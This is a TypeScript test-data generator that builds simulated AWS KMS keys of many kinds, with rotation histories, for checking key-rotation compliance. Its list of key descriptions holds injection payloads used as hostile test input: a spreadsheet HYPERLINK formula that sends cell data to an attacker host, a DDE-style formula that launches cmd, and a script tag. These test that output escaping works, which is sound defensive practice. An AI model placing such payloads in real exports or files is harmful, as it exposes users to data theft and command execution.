import { flat, type Rng } from '../rng.js';
import type { SimKey, SimRotationRecord } from '../types.js';

/** Every kind of key the KMS-002 judgement must meet (issue 2, "Scenarios"). */
export const KEY_KINDS = [
  'rotation-365',
  'rotation-90',
  'rotation-730',
  'rotation-2560',
  'rotation-period-omitted',
  'rotation-off',
  'disabled',
  'pending-deletion',
  'pending-import',
  'external',
  'cloudhsm',
  'external-key-store',
  'rsa-sign',
  'ecc-sign',
  'rsa-encrypt',
  'hmac',
  'ecc-key-agreement',
  'aws-managed',
  'multi-region-rotating',
  'multi-region-not-rotating',
  'on-demand-rotation-running',
] as const;
export type KeyKind = (typeof KEY_KINDS)[number];

/** Relative frequency of each kind once every kind has appeared (customer-heavy, like real accounts). */
const WEIGHTS: Record<KeyKind, number> = {
  'rotation-365': 30, 'rotation-90': 3, 'rotation-730': 3, 'rotation-2560': 2, 'rotation-period-omitted': 3, 'rotation-off': 15,
  disabled: 5, 'pending-deletion': 3, 'pending-import': 1, external: 2, cloudhsm: 1, 'external-key-store': 1, 'rsa-sign': 2,
  'ecc-sign': 2, 'rsa-encrypt': 1, hmac: 2, 'ecc-key-agreement': 1, 'aws-managed': 12, 'multi-region-rotating': 3,
  'multi-region-not-rotating': 1, 'on-demand-rotation-running': 1,
};
const WEIGHT_TOTAL = Object.values(WEIGHTS).reduce((a, b) => a + b, 0);

export function randomKind(rng: Rng): KeyKind {
  let x = rng.next() * WEIGHT_TOTAL;
  for (const kind of KEY_KINDS) {
    x -= WEIGHTS[kind];
    if (x < 0) return kind;
  }
  return 'rotation-365';
}

/** AWS managed keys, one per service and region, with AWS's own descriptions. */
const AWS_MANAGED = [
  ['alias/aws/s3', 'Default key that protects my S3 objects when no other key is defined'],
  ['alias/aws/ebs', 'Default key that protects my EBS volumes when no other key is defined'],
  ['alias/aws/rds', 'Default key that protects my RDS database volumes when no other key is defined'],
  ['alias/aws/secretsmanager', 'Default key that protects my Secrets Manager data when no other key is defined'],
  ['alias/aws/lambda', 'Default key that protects my Lambda functions when no other key is defined'],
  ['alias/aws/dynamodb', 'Default key that protects my DynamoDB data when no other key is defined'],
  ['alias/aws/ssm', 'Default key that protects my SSM parameters when no other key is defined'],
] as const;

// Text from AWS is untrusted: unicode, CSV/spreadsheet formula injection, markup, control characters.
const DESCRIPTIONS = [
  'Encrypts application data',
  'Payments ledger – clé de chiffrement (données clients) 🔐',
  '数据加密密钥 / データ暗号化キー',
  '=HYPERLINK("http://attacker.example/?x="&A1,"Click for details")',
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  'Line one\nline two, with "quotes" and a comma',
  '<script>alert(1)</script> & friends',
  '',
  'Tab\tseparated\tdescription',
];
const APPS = ['payments', 'orders', 'search', 'ledger', 'backup', 'logs', 'identity', 'media', 'analytics', 'billing'];
const ENVS = ['prod', 'staging', 'dev'];
const TAG_VALUES = ['platform', 'security', 'data', '=1+2', '@risky', 'équipe-sécurité', 'team-42'];

const DAY = 86_400_000;
const iso = (ms: number): string => new Date(ms).toISOString();

export interface KeyContext {
  rng: Rng;
  region: string;
  /** Reference "now" of the scenario (ms). */
  now: number;
  serial: number;
  /** AWS managed aliases already used in this account and region. */
  awsAliasesUsed: Set<string>;
}

function rotationHistory(rng: Rng, created: number, now: number, periodDays: number): { rotations: SimRotationRecord[]; next: string } {
  const period = periodDays * DAY;
  const rotations: SimRotationRecord[] = [];
  let t = created + period;
  for (; t <= now; t += period) rotations.push({ date: iso(t), type: 'AUTOMATIC' });
  if (rotations.length > 0 && rng.chance(0.15)) {
    const at = created + rng.int(Math.max(1, now - created));
    rotations.push({ date: iso(at), type: 'ON_DEMAND' });
    rotations.sort((a, b) => (a.date < b.date ? -1 : 1));
  }
  // Keep the history short: a 90-day key from 2020 would otherwise carry 25 records.
  return { rotations: rotations.slice(-6), next: iso(t) };
}

/** One key of a kind, with generated id, dates, aliases, tags and description. */
export function makeKey(kind: KeyKind, c: KeyContext): SimKey {
  const { rng } = c;
  const created = c.now - (30 + rng.int(6 * 365)) * DAY;
  const app = rng.pick(APPS);
  const env = rng.pick(ENVS);
  const key = plainKey(kind, c, created, `${app} ${env} data key`);
  addAliasesAndTags(key, rng, `alias/${app}-${env}-${c.serial}`);
  const rotate = (periodDays: number, omitPeriod = false): void => {
    const h = rotationHistory(rng, created, c.now, periodDays);
    key.rotation = omitPeriod ? { enabled: true, nextRotationDate: h.next } : { enabled: true, periodDays, nextRotationDate: h.next };
    key.rotations = h.rotations;
  };
  KIND_SHAPES[kind](key, { ...c, rotate });
  return key;
}

/** A customer managed symmetric key, enabled, not rotating, without aliases or tags yet. */
function plainKey(kind: KeyKind, c: KeyContext, created: number, defaultDescription: string): SimKey {
  const { rng } = c;
  return {
    keyId: kind.startsWith('multi-region') ? flat(`mrk-${rng.hex(32)}`) : rng.uuid(),
    region: c.region,
    keyManager: 'CUSTOMER',
    keySpec: 'SYMMETRIC_DEFAULT',
    keyUsage: 'ENCRYPT_DECRYPT',
    origin: 'AWS_KMS',
    keyState: 'Enabled',
    description: rng.chance(0.4) ? rng.pick(DESCRIPTIONS) : flat(defaultDescription),
    creationDate: iso(created),
    rotation: { enabled: false },
    rotations: [],
    aliases: [],
    tags: {},
  };
}

function addAliasesAndTags(key: SimKey, rng: Rng, alias: string): void {
  const aliasCount = rng.chance(0.25) ? 0 : rng.chance(0.2) ? 2 + rng.int(2) : 1;
  for (let i = 0; i < aliasCount; i++) key.aliases.push(flat(`${alias}${i === 0 ? '' : `-${i}`}`));
  const tagCount = rng.int(4);
  for (let i = 0; i < tagCount; i++) key.tags[['Owner', 'CostCenter', 'DataClass', 'Application'][i]!] = rng.pick(TAG_VALUES);
}

/** What shaping a key of one kind needs: the scenario context, and rotation on with a history from its creation date. */
interface ShapeContext extends KeyContext {
  rotate(periodDays: number, omitPeriod?: boolean): void;
}

/** How each kind differs from the plain key (plainKey), in the generator's order of random draws. */
const KIND_SHAPES: Record<KeyKind, (key: SimKey, c: ShapeContext) => void> = {
  'rotation-365': (_key, c) => c.rotate(365),
  'rotation-90': (_key, c) => c.rotate(90),
  'rotation-730': (_key, c) => c.rotate(730),
  'rotation-2560': (_key, c) => c.rotate(2560),
  'rotation-period-omitted': (_key, c) => c.rotate(365, true),
  'rotation-off': () => undefined,
  'on-demand-rotation-running': (key, c) => {
    c.rotate(365);
    key.rotation.onDemandRotationStartDate = iso(c.now - 3_600_000);
  },
  disabled: (key, c) => {
    key.keyState = 'Disabled';
    if (c.rng.chance(0.5)) c.rotate(365);
  },
  'pending-deletion': (key, c) => {
    c.rotate(365);
    key.keyState = 'PendingDeletion';
    key.deletionDate = iso(c.now + (7 + c.rng.int(23)) * DAY);
  },
  'pending-import': (key) => {
    key.origin = 'EXTERNAL';
    key.keyState = 'PendingImport';
  },
  external: (key, c) => {
    key.origin = 'EXTERNAL';
    if (c.rng.chance(0.5)) {
      key.expirationModel = 'KEY_MATERIAL_EXPIRES';
      key.validTo = iso(c.now + (30 + c.rng.int(300)) * DAY);
    } else key.expirationModel = 'KEY_MATERIAL_DOES_NOT_EXPIRE';
  },
  cloudhsm: (key, c) => {
    key.origin = 'AWS_CLOUDHSM';
    key.customKeyStoreId = flat(`cks-${c.rng.hex(17)}`);
    // The model's CloudHsmClusterIdType pattern is cluster-[2-7a-zA-Z]{11,16}: digits 0, 1, 8 and 9 mapped to letters.
    key.cloudHsmClusterId = flat(`cluster-${c.rng.alnum(11).replace(/[0189]/g, (d) => ({ '0': 'w', '1': 'x', '8': 'y', '9': 'z' })[d]!)}`);
  },
  'external-key-store': (key, c) => {
    key.origin = 'EXTERNAL_KEY_STORE';
    key.customKeyStoreId = flat(`cks-${c.rng.hex(17)}`);
    key.xksKeyId = flat(`ext-key-${c.rng.hex(8)}`);
  },
  'rsa-sign': (key) => setSpec(key, 'RSA_2048', 'SIGN_VERIFY'),
  'ecc-sign': (key) => setSpec(key, 'ECC_NIST_P256', 'SIGN_VERIFY'),
  'rsa-encrypt': (key) => setSpec(key, 'RSA_3072', 'ENCRYPT_DECRYPT'),
  hmac: (key) => setSpec(key, 'HMAC_256', 'GENERATE_VERIFY_MAC'),
  'ecc-key-agreement': (key) => setSpec(key, 'ECC_NIST_P384', 'KEY_AGREEMENT'),
  'aws-managed': (key, c) => {
    // One AWS managed key per service and region: when every alias is taken, a customer key rotating yearly instead.
    const free = AWS_MANAGED.find(([alias]) => !c.awsAliasesUsed.has(alias));
    if (free) {
      c.awsAliasesUsed.add(free[0]);
      key.keyManager = 'AWS';
      key.description = free[1];
      key.aliases = [free[0]];
      key.tags = {};
    }
    c.rotate(365);
  },
  'multi-region-rotating': (key, c) => {
    c.rotate(365);
    key.multiRegion = { type: 'PRIMARY', primaryRegion: c.region, primaryKeyId: key.keyId, replicaRegions: [] };
  },
  'multi-region-not-rotating': (key, c) => {
    key.multiRegion = { type: 'PRIMARY', primaryRegion: c.region, primaryKeyId: key.keyId, replicaRegions: [] };
  },
};

function setSpec(key: SimKey, keySpec: string, keyUsage: string): void {
  key.keySpec = keySpec;
  key.keyUsage = keyUsage;
}

/** A replica of a multi-Region primary in another region: same key id, shared rotation, its own alias. */
export function makeReplica(primary: SimKey, region: string, rng: Rng): SimKey {
  const created = Date.parse(primary.creationDate) + (1 + rng.int(30)) * DAY;
  return {
    keyId: primary.keyId,
    region,
    keyManager: 'CUSTOMER',
    keySpec: primary.keySpec,
    keyUsage: primary.keyUsage,
    origin: primary.origin,
    keyState: 'Enabled',
    description: primary.description,
    creationDate: iso(created),
    multiRegion: { type: 'REPLICA', primaryRegion: primary.region, primaryKeyId: primary.keyId },
    rotation: { ...primary.rotation },
    rotations: [],
    aliases: primary.aliases.slice(0, 1),
    tags: { ...primary.tags },
  };
}
